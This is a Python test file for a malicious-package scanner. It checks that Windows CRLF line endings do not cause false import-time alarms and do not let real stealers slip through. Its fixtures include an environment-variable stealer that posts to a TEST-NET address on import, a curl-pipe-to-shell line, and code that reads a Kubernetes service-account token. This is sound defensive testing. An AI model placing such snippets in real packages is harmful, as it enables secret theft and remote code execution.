"""Round 11's false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan

# ---------------------------------------------------------------- files written on Windows
# A wheel built on Windows keeps CRLF line ends. The import-time reader followed blocks by
# indentation and took the "\r" of a blank line for code at column 0: every call of the
# package's own function, however deep in a method, looked like it ran on import.
K8S_PROBE = (
    "import os\nimport urllib.request\n\n\ndef image_id():\n"
    "    try:\n        token = open('/var/run/secrets/token').read()\n"
    "    except PermissionError:\n        print('uid', os.getuid())\n        return None\n"
    "    host = os.getenv('KUBERNETES_SERVICE_HOST')\n"
    "    req = urllib.request.Request(\n        'https://' + host + '/api/v1/pods',\n"
    "        headers={'Authorization': 'Bearer ' + token},\n    )\n"
    "    with urllib.request.urlopen(req, timeout=3) as response:\n"
    "        return response.read()\n"
)


def _crlf(text: str) -> str:
    return text.replace("\n", "\r\n")


def test_a_crlf_module_calling_a_helper_inside_a_method_is_not_import_time(tmp_path):
    settings = (
        "import os\nfrom pkg import util\n\n\nclass Settings:\n    def probe(self):\n"
        "        host = os.getenv('HOSTNAME')\n\n        if host:\n\n"
        "            self.image = util.image_id()\n"
    )
    files = {
        "pkg/__init__.py": "__version__ = '1.0'\n",
        "pkg/util.py": _crlf(K8S_PROBE),
        "pkg/settings.py": _crlf(settings),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [(t.id, t.steps[:2]) for t in result.threats]


def test_a_crlf_module_calling_a_stealer_while_it_loads_is_still_caught(tmp_path):
    stealer = (
        "import json\nimport os\nimport urllib.request\n\n\ndef ping():\n"
        "    body = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('http://198.51.100.7/c', data=body)\n"
    )
    files = {
        "pkg/__init__.py": _crlf(
            "from pkg import c\n\n\ntry:\n\n    c.ping()\nexcept OSError:\n    pass\n"
        ),
        "pkg/c.py": _crlf(stealer),
    }
    assert_high_with("crlf stealer", scan(files, tmp_path), {"chain.exfiltration"})


def test_line_numbers_of_a_crlf_file_are_those_an_editor_shows(tmp_path):
    files = {
        "pkg/__init__.py": _crlf("import os\n\n\nos.system('curl http://198.51.100.7/x | sh')\n")
    }
    result = scan(files, tmp_path)
    lines = {f.line for f in result.findings if f.path == "pkg/__init__.py" and f.line > 1}
    assert lines == {4}, sorted(lines)
